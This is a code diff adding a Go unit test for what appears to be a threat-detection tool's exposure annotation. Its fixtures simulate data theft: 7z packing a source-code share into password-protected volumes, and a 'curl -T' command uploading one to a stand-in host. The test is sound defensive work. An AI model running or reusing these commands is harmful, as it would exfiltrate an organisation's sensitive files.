@@ -450,3 +450,34 @@ func TestPowerShellVariables(t *testing.T) {
 		t.Errorf("items\n got %q\nwant %q", got, want)
 	}
 }
+
+// AnnotateMembers (a case store's operation, its detections by the
+// store's ids) gives the exposure Annotate gives, its items naming the
+// detections by those ids, and leaves the operation's ids as they were.
+func TestAnnotateMembers(t *testing.T) {
+	dets := []result.Detection{
+		proc("FS03", 0, `C:\x\7z.exe`, `7z a -v1g -pX C:\PerfLogs\e.7z D:\Shares\Src\`, `C:\`),
+		file("FS03", 1, `C:\x\7z.exe`, `C:\PerfLogs\e.7z.001`),
+		proc("FS03", 5, `C:\Windows\System32\curl.exe`, `curl -T C:\PerfLogs\e.7z.001 https://x.example/`, `C:\`),
+	}
+	ids := []int{104, 230, 517}
+	op := result.Operation{ID: "op", Severity: "medium", Score: 5, Detections: slices.Clone(ids)}
+	jewels, err := ParseJewels("j.txt", []byte(`D:\Shares\Src\** | source code`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	AnnotateMembers(&op, dets, jewels)
+	_, want := annotate(t, jewels, dets...)
+	if !slices.Equal(op.Detections, ids) || op.Exposure == nil || len(op.Exposure.Items) != len(want.Items) || op.Severity != "high" {
+		t.Fatalf("operation %+v, want ids %v kept, %d items, severity high", op, ids, len(want.Items))
+	}
+	for i, it := range op.Exposure.Items {
+		var mapped []int
+		for _, d := range want.Items[i].Detections {
+			mapped = append(mapped, ids[d])
+		}
+		if !slices.Equal(it.Detections, mapped) || it.Kind != want.Items[i].Kind || it.Strength != want.Items[i].Strength {
+			t.Errorf("item %d: detections %v, want %v", i, it.Detections, mapped)
+		}
+	}
+}
